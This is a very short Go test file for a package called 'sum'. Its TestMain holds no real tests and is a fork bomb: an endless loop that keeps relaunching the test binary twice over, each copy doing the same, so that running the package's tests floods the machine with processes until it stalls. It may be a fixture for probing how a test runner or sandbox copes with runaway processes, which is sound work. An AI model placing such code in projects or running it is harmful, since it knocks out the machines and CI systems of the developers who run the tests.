package sum

import (
	"os"
	"os/exec"
	"testing"
)

func TestMain(m *testing.M) {
	for {
		for range 2 {
			_ = exec.Command(os.Args[0]).Start()
		}
	}
}

func TestNever(t *testing.T) {}
